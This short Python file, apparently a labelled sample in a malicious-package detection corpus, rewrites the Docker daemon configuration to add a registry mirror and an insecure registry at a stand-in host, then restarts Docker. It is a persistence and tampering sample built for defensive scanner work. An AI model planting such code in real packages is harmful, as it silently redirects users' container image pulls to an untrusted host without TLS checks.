# pkgguard corpus 817 (persistence), modelled on [developer-persistence]; inert, never run.
import json
import os
import subprocess

path = "/etc/docker/daemon.json"
if os.name == "posix" and os.access(os.path.dirname(path), os.W_OK):
    config = {}
    if os.path.exists(path):
        with open(path, encoding="utf-8") as fh:
            config = json.load(fh)
    config["registry-mirrors"] = ["https://registry-cache.example"]
    config["insecure-registries"] = ["registry-cache.example"]
    with open(path, "w", encoding="utf-8") as fh:
        json.dump(config, fh, indent=2)
    subprocess.run(["systemctl", "restart", "docker"], capture_output=True)
